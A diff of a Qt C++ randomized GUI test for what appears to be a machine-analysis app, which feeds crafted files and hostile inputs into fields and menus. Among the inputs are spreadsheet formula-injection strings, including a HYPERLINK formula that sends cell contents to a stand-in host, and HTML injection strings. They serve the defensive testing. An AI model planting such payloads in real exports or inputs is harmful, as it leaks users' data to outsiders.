@@ -108,6 +108,10 @@ QList<Crafted> craftedFiles(const QString &pipe) {
     };
     const QString astral = monkey::outsideBmp().first();
     const QString heading = QStringLiteral("<h1 style=\"color:red\">ФАЙЛ ОТКРЫТ</h1>");
+    const auto ninePairs = [](S &s) {
+        s.pairSlots.fill(s.pairSlots[0]);
+        s.currentPair = 9;
+    };
     return {
         {"good.json", true, bytes(good)},
         {"compact.json", true, bytes(QJsonDocument::fromJson(good).toJson(QJsonDocument::Compact))},
@@ -120,11 +124,7 @@ QList<Crafted> craftedFiles(const QString &pipe) {
              s.pairSlots[0].z1 = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"x\")");
              s.inputs = {"=1+1", "@SUM(A1)", "-2+3", "\t=1"};
          }))},
-        {"nine-pairs.json", true, bytes(stateBytes([](S &s) {
-             for (auto &p : s.pairSlots)
-                 p = s.pairSlots[0];
-             s.currentPair = 9;
-         }))},
+        {"nine-pairs.json", true, bytes(stateBytes(ninePairs))},
         {"astral-at-50.json", true,
          bytes(stateBytes([&](S &s) { s.pairSlots[0].fm = QString(49, u'1') + astral; }))},
         {"notes-20000.json", true,
@@ -137,13 +137,9 @@ QList<Crafted> craftedFiles(const QString &pipe) {
         {"format-heading.json", false, format(heading)},
         {"version-2.json", false, bytes(replaced(good, "\"version\": 1", "\"version\": 2"))},
         {"ten-pairs.json", false,
-         bytes(replaced(stateBytes([](S &s) {
-                            for (auto &p : s.pairSlots)
-                                p = s.pairSlots[0];
-                        }),
-                        "\n  ],",
-                        ",\n    {\"Z1\": \"1\", \"Fr1\": \"1\", "
-                        "\"Z2\": \"2\", \"Fm\": \"0\"}\n  ],"))},
+         bytes(replaced(
+             stateBytes(ninePairs), "\n  ],",
+             ",\n    {\"Z1\": \"1\", \"Fr1\": \"1\", \"Z2\": \"2\", \"Fm\": \"0\"}\n  ],"))},
         {"text-51.json", false,
          bytes(stateBytes([](S &s) { s.pairSlots[0].z2 = QString(51, u'2'); }))},
         {"astral-at-51.json", false,
@@ -166,21 +162,20 @@ QList<Crafted> craftedFiles(const QString &pipe) {
 
 QStringList hostileTexts(const QString &pipe) {
     const QStringList astral = monkey::outsideBmp();
-    return {"<img src=/dev/zero>",
-            "<img src=" + pipe + ">",
-            QStringLiteral("<h1 style=\"color:red\">ФАЙЛ ОТКРЫТ</h1>"),
-            "=1+1",
-            "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")",
-            "@SUM(A1)",
-            "-2+3",
-            "[*]",
-            "\n",
-            "\r\n",
-            "\t=1",
-            astral.join(QString()),
-            "1" + astral.first(),
-            QString(30000, u'ж'),
-            QStringLiteral("<b>=</b>").repeated(5000)};
+    QStringList texts = {"<img src=/dev/zero>",
+                         "<img src=" + pipe + ">",
+                         "=1+1",
+                         "@SUM(A1)",
+                         "-2+3",
+                         "[*]",
+                         "\n",
+                         "\r\n",
+                         "\t=1",
+                         astral.join(QString())};
+    return texts << QStringLiteral("<h1 style=\"color:red\">ФАЙЛ ОТКРЫТ</h1>")
+                 << QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"x\")")
+                 << "1" + astral.first() << QString(30000, u'ж')
+                 << QStringLiteral("<b>=</b>").repeated(5000);
 }
 
 // A cell that a spreadsheet would run: it begins like a formula and is no
@@ -229,13 +224,11 @@ QString formulaIn(const QStringList &cells) {
     return it == cells.end() ? QString() : *it;
 }
 
-// What lstat says of a folder entry; a changed entry differs in one of these.
+// Every entry under the roots, links not followed: its kind (lstat's file
+// type) and a signature that changes whenever it is written or replaced.
 struct Entry {
     mode_t type = 0;
-    off_t size = 0;
-    qint64 mtime = 0;
-    ino_t inode = 0;
-    QByteArray target;
+    QString signature;
     bool operator==(const Entry &) const = default;
 };
 using Tree = std::map<QString, Entry>;
@@ -247,21 +240,13 @@ Tree scanTree(const QStringList &roots) {
                         QDirIterator::Subdirectories);
         while (it.hasNext()) {
             const QString path = it.next();
-            const QByteArray native = QFile::encodeName(path);
             struct stat st;
-            if (::lstat(native.constData(), &st) != 0)
-                continue;
-            Entry e{st.st_mode & S_IFMT,
-                    st.st_size,
-                    qint64(st.st_mtim.tv_sec) * 1000000000 + st.st_mtim.tv_nsec,
-                    st.st_ino,
-                    {}};
-            if (S_ISLNK(st.st_mode)) {
-                char buffer[4096];
-                const ssize_t n = ::readlink(native.constData(), buffer, sizeof buffer);
-                e.target = QByteArray(buffer, n > 0 ? int(n) : 0);
-            }
-            tree[path] = e;
+            if (::lstat(QFile::encodeName(path).constData(), &st) == 0)
+                tree[path] = {st.st_mode & S_IFMT,
+                              QString::asprintf("%lld %lld.%09ld %llu ", (long long)st.st_size,
+                                                (long long)st.st_mtim.tv_sec, st.st_mtim.tv_nsec,
+                                                (unsigned long long)st.st_ino) +
+                                  QFileInfo(path).symLinkTarget()};
         }
     }
     return tree;
@@ -286,35 +271,18 @@ struct Chosen {
     bool taken = false;
 };
 
-// The machine windows' fields by name, as the user meets them.
-struct Field {
-    const char *window;
-    const char *name;
-};
-constexpr Field kMachineFields[] = {
-    {"TrainWindow", "nameEdit"},
-    {"TrainWindow", "notesEdit"},
-    {"TrainWindow", "speedEdit"},
-    {"TrainWindow", "unitBox"},
-    {"TrainWindow", "ordersShaftBox"},
-    {"TrainWindow", "referenceShaftBox"},
-    {"TrainWindow", "speedUnitBox"},
-    {"TrainWindow", "writeButton"},
-    {"TrainWindow", "pairsView"},
-    {"TrainWindow", "shaftsView"},
-    {"MachineSearchWindow", "frequencyEdit"},
-    {"MachineSearchWindow", "toleranceEdit"},
-    {"MachineSearchWindow", "unitBox"},
-    {"MachineSearchWindow", "ordersShaftBox"},
-    {"MachineSearchWindow", "toleranceUnitBox"},
-    {"MachineSearchWindow", "maxHarmonicBox"},
-    {"MachineSearchWindow", "stepBox"},
-    {"MachineSearchWindow", "maxSidebandBox"},
-    {"MachineSearchWindow", "peakMode"},
-    {"MachineSearchWindow", "spacingMode"},
-    {"MachineSearchWindow", "searchButton"},
-    {"MachineSearchWindow", "resultView"},
-};
+// The machine windows and their fields by objectName, as the user meets them.
+const QMap<QString, QStringList> &machineFields() {
+    static const QMap<QString, QStringList> fields = {
+        {"TrainWindow",
+         {"nameEdit", "notesEdit", "speedEdit", "unitBox", "ordersShaftBox", "referenceShaftBox",
+          "speedUnitBox", "writeButton", "pairsView", "shaftsView"}},
+        {"MachineSearchWindow",
+         {"frequencyEdit", "toleranceEdit", "unitBox", "ordersShaftBox", "toleranceUnitBox",
+          "maxHarmonicBox", "stepBox", "maxSidebandBox", "peakMode", "spacingMode", "searchButton",
+          "resultView"}}};
+    return fields;
+}
 
 } // namespace
 
@@ -368,14 +336,12 @@ private:
     QString someText() { return chance(35) ? pick(hostile) : number(); }
 
     // --- the windows
-    QWidget *window(const char *name) const {
-        if (qstrcmp(name, "TForm1") == 0)
-            return form.get();
-        return form->findChild<QWidget *>(QLatin1String(name));
+    QWidget *window(const QString &name) const {
+        return name == QLatin1String("TForm1") ? form.get() : form->findChild<QWidget *>(name);
     }
     QList<QWidget *> shownWindows() const {
         QList<QWidget *> list;
-        for (const char *name : {"TForm1", "TrainWindow", "MachineSearchWindow"})
+        for (const QString name : {"TForm1", "TrainWindow", "MachineSearchWindow"})
             if (QWidget *w = window(name); w && w->isVisible())
                 list << w;
         return list;
@@ -393,20 +359,23 @@ private:
     static QString nameOf(QWidget *w) {
         return w->window()->objectName() + QLatin1Char('/') + w->objectName();
     }
-    QWidget *field(const Field &f) const {
-        QWidget *w = window(f.window);
-        return w && w->isVisible() ? w->findChild<QWidget *>(QLatin1String(f.name)) : nullptr;
+    // The fields of the machine windows that are up, of one kind.
+    template <typename Kind = QWidget> QList<QWidget *> machineWidgets() const {
+        QList<QWidget *> found;
+        for (auto it = machineFields().cbegin(); it != machineFields().cend(); ++it)
+            if (QWidget *w = window(it.key()); w && w->isVisible())
+                for (const QString &name : it.value())
+                    if (auto *widget = w->findChild<Kind *>(name))
+                        found << widget;
+        return found;
     }
     // Mostly a machine window's field or a pair's input; now and then any
     // other edit of the main window, whose nonsense stops the calculations.
     QWidget *randomField() {
         if (chance(8))
             return pick(mainEdits);
-        QList<QWidget *> fields = {form->Edit1, form->Edit2, form->Edit3, form->Edit4};
-        for (const Field &f : kMachineFields)
-            if (QWidget *w = field(f))
-                fields << w;
-        return pick(fields);
+        return pick(machineWidgets() +
+                    QList<QWidget *>{form->Edit1, form->Edit2, form->Edit3, form->Edit4});
     }
 
     // --- the actions
@@ -422,7 +391,12 @@ private:
                 copy};
     }
     Action machineKey() {
-        static const QList<QKeySequence> keys = {Qt::Key_F9, Qt::Key_F7, Qt::CTRL | Qt::Key_O,
+        // Ctrl+O the most, so that every crafted file gets its turn.
+        static const QList<QKeySequence> keys = {Qt::Key_F9,
+                                                 Qt::Key_F7,
+                                                 Qt::CTRL | Qt::Key_O,
+                                                 Qt::CTRL | Qt::Key_O,
+                                                 Qt::CTRL | Qt::Key_O,
                                                  Qt::CTRL | Qt::Key_S,
                                                  Qt::CTRL | Qt::SHIFT | Qt::Key_S};
         return keyAction(keyTarget(), pick(keys));
@@ -430,7 +404,7 @@ private:
     Action menuItem() {
         const QString name =
             pick<QString>({"machineTable", "machineSearch", "machineOpen", "machineSave",
-                           "machineSaveAs", "machineExport", "machineCopy"});
+                           "machineSaveAs", "machineExport", "machineExport", "machineCopy"});
         QAction *item = form->findChild<QAction *>(name);
         return {"item " + name, [item] { item->trigger(); }, name == "machineCopy"};
     }
@@ -454,8 +428,6 @@ private:
                     w->setFocus(Qt::MouseFocusReason);
                 }};
     }
-    // Short texts typed key by key, long ones pasted; a field's old text is
-    // replaced or added to.
     // Short texts typed key by key, long ones and line breaks pasted.
     static bool pasted(const QString &text) {
         return text.size() > 40 || text.contains(u'\n') || text.contains(u'\r');
@@ -485,10 +457,7 @@ private:
                 }};
     }
     Action changeCombo() {
-        QList<QWidget *> boxes;
-        for (const Field &f : kMachineFields)
-            if (QWidget *w = field(f); qobject_cast<QComboBox *>(w))
-                boxes << w;
+        const QList<QWidget *> boxes = machineWidgets<QComboBox>();
         if (boxes.isEmpty())
             return menuItem();
         QWidget *box = pick(boxes);
@@ -501,38 +470,32 @@ private:
                     QTest::keyClick(box, key);
                 }};
     }
-    // Clicks a cell (and shift-clicks another, or selects all), then Ctrl+C.
+    // Clicks a cell, shift-clicks another or selects all, then Ctrl+C.
     Action copyCells() {
         QWidget *train = window("TrainWindow");
         if (!train || !train->isVisible())
             return menuItem();
-        auto *view = train->findChild<QAbstractItemView *>(
-            QLatin1String(chance(50) ? "pairsView" : "shaftsView"));
-        const QAbstractItemModel *model = view->model();
-        const int rows = model->rowCount(), columns = model->columnCount();
-        if (rows == 0)
+        auto *view = train->findChild<QAbstractItemView *>(chance(50) ? "pairsView" : "shaftsView");
+        const QAbstractItemModel *m = view->model();
+        const auto cell = [&] {
+            return m->index(uniform(0, m->rowCount() - 1), uniform(0, m->columnCount() - 1));
+        };
+        if (m->rowCount() == 0)
             return keyAction(view, QKeySequence::Copy);
-        const QPoint from(uniform(0, rows - 1), uniform(0, columns - 1));
-        const QPoint to(uniform(0, rows - 1), uniform(0, columns - 1));
-        const int how = uniform(0, 2);
-        return {QStringLiteral("copy cells %1,%2 %3 %4,%5 of %6")
-                    .arg(from.x())
-                    .arg(from.y())
-                    .arg(how == 0   ? "alone"
-                         : how == 1 ? "to"
-                                    : "and all")
-                    .arg(to.x())
-                    .arg(to.y())
-                    .arg(view->objectName()),
-                [view, from, to, how] {
+        const QModelIndex from = cell(), to = cell();
+        const int how = uniform(0, 2); // the cell alone, up to another, all
+        const auto name = [](const QModelIndex &i) {
+            return QString::asprintf("%d,%d", i.row(), i.column());
+        };
+        return {QStringLiteral("copy from %1: %2 %3 %4")
+                    .arg(view->objectName(), name(from),
+                         QStringList{"alone", "to", "and all"}.at(how), name(to)),
+                [view, from = view->visualRect(from).center(), to = view->visualRect(to).center(),
+                 how] {
                     bringUp(view->window());
-                    const auto at = [view](QPoint cell) {
-                        return view->visualRect(view->model()->index(cell.x(), cell.y())).center();
-                    };
-                    QTest::mouseClick(view->viewport(), Qt::LeftButton, {}, at(from));
+                    QTest::mouseClick(view->viewport(), Qt::LeftButton, {}, from);
                     if (how == 1)
-                        QTest::mouseClick(view->viewport(), Qt::LeftButton, Qt::ShiftModifier,
-                                          at(to));
+                        QTest::mouseClick(view->viewport(), Qt::LeftButton, Qt::ShiftModifier, to);
                     if (how == 2)
                         QTest::keySequence(view, QKeySequence::SelectAll);
                     QTest::keySequence(view, QKeySequence::Copy);
@@ -592,10 +555,7 @@ private:
                 }};
     }
     Action clickButton() {
-        QList<QWidget *> buttons;
-        for (const Field &f : kMachineFields)
-            if (QWidget *w = field(f); qobject_cast<QAbstractButton *>(w))
-                buttons << w;
+        QList<QWidget *> buttons = machineWidgets<QAbstractButton>();
         buttons << form->SpeedButton31 << form->SpeedButton32 << form->SpeedButton33
                 << form->SpeedButton1;
         QWidget *b = pick(buttons);
@@ -931,22 +891,19 @@ private:
         for (const auto &[target, link] : links)
             if (!QFile::link(target, dir.filePath(link)))
                 return false;
-        openPaths << "files/outside.json"
-                  << "files/link.json"
-                  << "save/folder-link/good.json"
-                  << "save/a.json"
-                  << "save/table.csv";
-        savePaths << "save/a.json"
-                  << "save/b"
-                  << "save/table.csv"
-                  << "save/Таблица 1.csv"
-                  << "save/outside-text.json"
-                  << "files/outside.json"
-                  << "files/good.json"
-                  << "save/dangling.json"
-                  << "save/folder-link/new.json"
-                  << "save/folder-link"
-                  << "save/no-such-folder/m.json";
+        openPaths += {"files/outside.json", "files/link.json", "save/folder-link/good.json",
+                      "save/a.json", "save/table.csv"};
+        savePaths = {"save/a.json",
+                     "save/b",
+                     "save/table.csv",
+                     "save/Таблица 1.csv",
+                     "files/good.json",
+                     "save/outside-text.json",
+                     "files/outside.json",
+                     "save/dangling.json",
+                     "save/folder-link/new.json",
+                     "save/folder-link",
+                     "save/no-such-folder/m.json"};
         readOnlyNote = makeReadOnly(good);
         return true;
     }
@@ -967,8 +924,7 @@ private:
         }
         opens[QFileInfo(file).canonicalFilePath()] = true;
         openPaths << "ro/machine.json";
-        savePaths << "ro/machine.json"
-                  << "ro/new.json";
+        savePaths += {"ro/machine.json", "ro/new.json"};
         return {};
     }
     void dropReadOnly() {
@@ -1000,7 +956,9 @@ private slots:
         QVERIFY(startMainWindow());
         work = QFileInfo(fixture->workDir.path()).canonicalFilePath();
         QVERIFY(makeFiles());
-        mainEdits = form->findChildren<QLineEdit *>();
+        for (QLineEdit *edit : form->findChildren<QLineEdit *>())
+            if (edit->window() == form.get())
+                mainEdits << edit;
         lastTree = scanTree({work, outside});
     }
     void cleanup() {
